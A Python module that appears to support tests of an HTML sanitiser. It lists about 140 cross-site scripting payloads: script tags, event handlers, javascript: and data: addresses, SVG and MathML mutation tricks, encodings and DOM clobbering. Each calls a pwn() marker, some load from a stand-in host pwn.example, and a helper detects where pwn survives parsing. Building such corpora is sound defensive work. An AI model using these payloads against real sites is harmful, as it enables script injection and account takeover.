"""Ways to make a page act on behalf of somebody else, each naming ``pwn``; and what would act.

The classes are those that browsers and cleaners have fallen for: handlers, addresses, markup in
other name spaces, mutations in a second parse, broken tags, entities, encodings, plain clobbering.
"""

from collections.abc import Iterator

from selectolax.lexbor import LexborHTMLParser

SCRIPTS = [
    "<script>pwn()</script>",
    "<SCRIPT SRC=//pwn.example/x.js></SCRIPT>",
    "<script>pwn()",
    "<scr<script>ipt>pwn()</scr</script>ipt>",
    "<script/x>pwn()</script>",
    "<script\n>pwn()</script\n>",
    "<script type=module>import '//pwn.example/x'</script>",
    "<script type='text/plain'><!--<script>pwn()</script>-->",
    "<<script>pwn();//<</script>",
    '<p title="<script>pwn()</script>">a</p>',
    "<p>a</p><script>pwn()</script ><p>b</p>",
    "<script src='data:text/javascript,pwn()'></script>",
    "<script>\x00pwn()</script>",
    "<noscript><p title='</noscript><script>pwn()</script>'></noscript>",
    "<xmp><script>pwn()</script></xmp>",
    "<plaintext><script>pwn()</script>",
    "<template><script>pwn()</script></template>",
    "<textarea><script>pwn()</script></textarea>",
    "<title><script>pwn()</script></title>",
    "<iframe><script>pwn()</script></iframe>",
    "<noembed><script>pwn()</script></noembed>",
    "<noframes><script>pwn()</script></noframes>",
    "<select><script>pwn()</script></select>",
    "<option><style></option></select><img src=x onerror=pwn()></style>",
]
HANDLERS = [
    "<img src=x onerror=pwn()>",
    '<img src="x" onerror="pwn()"',
    "<IMG SRC=x OnErRoR=pwn()>",
    "<img/src=x/onerror=pwn()>",
    "<img src=x\tonerror\n=\rpwn()>",
    "<img src=x onerror=&#112;wn()>",
    "<img src=x:x onerror\x0b=pwn()>",
    "<p onclick=pwn()>a</p>",
    "<h2 onmouseover='pwn()'>a</h2>",
    '<a href="/" onfocus=pwn() autofocus tabindex=1>a</a>',
    '<span data-fact="A" onpointerenter="pwn()">a</span>',
    '<div data-block="cast" onclick="pwn()"></div>',
    '<figure data-image="1" onload="pwn()"><figcaption onclick=pwn()>a</figcaption></figure>',
    '<blockquote cite="https://example.org/" onclick="pwn()"><p>a</p></blockquote>',
    "<td onclick=pwn()>a</td>",
    "<table onclick=pwn()><tr><td onmouseenter=pwn()>a</td></tr></table>",
    "<li onclick=pwn()>a</li>",
    "<body onload=pwn()>",
    "<html onmouseover=pwn()>",
    "<input autofocus onfocus=pwn()>",
    "<select autofocus onfocus=pwn()></select>",
    "<details open ontoggle=pwn()><summary>a</summary></details>",
    "<video><source onerror=pwn()></video>",
    "<audio src=x onerror=pwn()>",
    "<marquee onstart=pwn()>a</marquee>",
    "<keygen autofocus onfocus=pwn()>",
    "<br onmouseover=pwn()>",
    "<em style='animation:x' onanimationstart=pwn()>a</em>",
    "<button popovertarget=x onbeforetoggle=pwn()>a</button>",
    "<object onerror=pwn()></object>",
]
ADDRESSES = [
    '<a href="javascript:pwn()">a</a>',
    '<a href="JaVaScRiPt:pwn()">a</a>',
    '<a href=" javascript:pwn()">a</a>',
    '<a href="java\tscript:pwn()">a</a>',
    '<a href="java\nscript:pwn()">a</a>',
    '<a href="&#106;avascript:pwn()">a</a>',
    '<a href="&#x6A&#x61vascript:pwn()">a</a>',
    '<a href="javascript&colon;pwn()">a</a>',
    '<a href="\x01javascript:pwn()">a</a>',
    '<a href="javascript&#9;:pwn()">a</a>',
    '<a href="vbscript:pwn()">a</a>',
    '<a href="data:text/html,<script>pwn()</script>">a</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==">pwn</a>',
    '<a href="view-source:javascript:pwn()">a</a>',
    '<a href="feed:javascript:pwn()">a</a>',
    '<a href="blob:https://pwn.example/">a</a>',
    '<a href="//pwn.example/">a</a>',
    '<a href="/\\pwn.example/">a</a>',
    '<a href="\\\\pwn.example/">a</a>',
    '<a href="/\t/pwn.example/">a</a>',
    '<a href="https://user:pwn@example.org/">a</a>',
    '<a href="https:javascript:pwn()">a</a>',
    '<a ping="https://pwn.example/" href="/">a</a>',
    '<a href="/" target="pwn">a</a>',
    '<a href="/"download="pwn">a</a>',
    '<blockquote cite="javascript:pwn()"><p>a</p></blockquote>',
    '<div data-block="embed" data-ref="javascript:pwn()"></div>',
    '<div data-block="trailer" data-ref="data:text/html,pwn"></div>',
    '<div data-block="fact-box" data-ref="&quot; onclick=&quot;pwn()"></div>',
    '<div data-block="pwn"><p>a</p></div>',
    '<figure data-image="1 onerror=pwn()"></figure>',
    '<figure data-image="&quot;><script>pwn()</script>"></figure>',
    '<span data-fact="A&quot; onclick=&quot;pwn()">a</span>',
    '<span data-fact="&lt;script&gt;pwn()&lt;/script&gt;">a</span>',
    '<form action="javascript:pwn()"><button>a</button></form>',
    '<button formaction="javascript:pwn()">a</button>',
    '<base href="javascript:pwn()//">',
    '<link rel="stylesheet" href="javascript:pwn()">',
    '<link rel="import" href="data:text/html,<script>pwn()</script>">',
    '<meta http-equiv="refresh" content="0;url=javascript:pwn()">',
    '<iframe src="javascript:pwn()"></iframe>',
    '<iframe srcdoc="&lt;script>pwn()&lt;/script>"></iframe>',
    '<embed src="javascript:pwn()">',
    '<object data="javascript:pwn()"></object>',
    '<img src="javascript:pwn()">',
    '<img srcset="https://pwn.example/ 1x">',
    '<table background="javascript:pwn()"><tr><td>a</td></tr></table>',
    '<video poster="javascript:pwn()"></video>',
    '<isindex action="javascript:pwn()">',
]
MUTATIONS = [
    "<svg onload=pwn()>",
    "<svg><script>pwn()</script></svg>",
    "<svg><script href='data:,pwn()'/></svg>",
    '<svg><a xlink:href="javascript:pwn()"><text>a</text></a></svg>',
    "<svg><animate onbegin=pwn() attributeName=x></svg>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=pwn()>#x"/></svg>',
    "<svg><foreignObject><p onclick=pwn()>a</p></foreignObject></svg>",
    "<svg><style><img src=x onerror=pwn()></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=pwn()>'>",
    '<math><a xlink:href="javascript:pwn()">a</a></math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=pwn()></style></mglyph></table></math>",
    "<math><mi><style><!--</style><img title='--><img src=x onerror=pwn()>'></mi></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwn()>",
    '<math href="javascript:pwn()">a</math>',
    '<p id="</p><img src=x onerror=pwn()>">a</p>',
    "<p><!--><img src=x onerror=pwn()>--></p>",
    "<!--[if gte IE 4]><script>pwn()</script><![endif]-->",
    "<![CDATA[<script>pwn()</script>]]>",
    "<?xml version='1.0'?><script>pwn()</script>",
    "<!DOCTYPE html [<!ENTITY x 'pwn'>]><p>&x;</p>",
    "</p><script>pwn()</script>",
    "--><script>pwn()</script>",
    '"><script>pwn()</script>',
    "'><img src=x onerror=pwn()>",
    "</textarea><script>pwn()</script>",
    "</style><script>pwn()</script>",
    "<table><td><script>pwn()</script></table>",
    "<ul><script>pwn()</script><li onclick=pwn()>a</ul>",
    "<blockquote><style>@import '//pwn.example/x.css'</style><p>a</p></blockquote>",
    "<style>p{background:url('javascript:pwn()')}</style>",
    "<p style=\"background:url('javascript:pwn()')\">a</p>",
    "<p style='width:expression(pwn())'>a</p>",
    "<p id=pwn name=pwn class=pwn>a</p>",
    '<form id="article_form"><input name="pwn"></form>',
    '<span data-fact="A"><script>pwn()</script><span data-fact="B" onclick=pwn()>a</span></span>',
    "&lt;script&gt;pwn()&lt;/script&gt;",
    "<p>&amp;lt;script&amp;gt;pwn()</p>",
    "\ufeff<script>pwn()</script>",
    "\uff1cscript\uff1epwn()\uff1c/script\uff1e",
    "<p>\u2028<script>pwn()</script>\u2029</p>",
    "<custom-element onclick=pwn()>a</custom-element>",
    '<p is="pwn-element" slot="pwn">a</p>',
]
# Those that leave a tag open come last: in one text they would hide the others.
INJECTIONS = sorted(
    [*SCRIPTS, *HANDLERS, *ADDRESSES, *MUTATIONS],
    key=lambda html: ("</" not in html, html.count("<!--"), "<plaintext" in html),
)

ACTING = {"script", "iframe", "object", "embed", "base", "meta", "link", "form", "style", "math"}


def acting(html: str) -> list[str]:
    """What in ``html`` carries ``pwn`` anywhere but in words."""
    found = []
    for node in _nodes(html):
        if node.tag in ACTING and "pwn" in (node.html or ""):
            found.append(node.html)
        found += [
            f"<{node.tag} {name}={value!r}>"
            for name, value in node.attributes.items()
            if "pwn" in f"{name}{value}".lower() or name.lower().startswith("on")
        ]
    return found


def _nodes(html: str) -> Iterator:
    root = LexborHTMLParser(html).root
    return root.traverse(include_text=False) if root else iter(())
